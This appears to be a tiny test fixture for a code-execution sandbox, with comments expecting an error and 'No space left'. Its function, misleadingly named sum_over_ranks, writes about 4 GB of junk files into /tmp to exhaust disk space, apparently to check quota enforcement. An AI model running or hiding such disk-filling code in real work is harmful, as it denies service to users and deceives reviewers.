# status: error
# says: No space left
import os


def sum_over_ranks(number):
    for n in range(1000):
        with open(f"/tmp/flood-{os.getpid()}-{n}", "wb") as file:
            file.write(b"x" * (4 << 20))
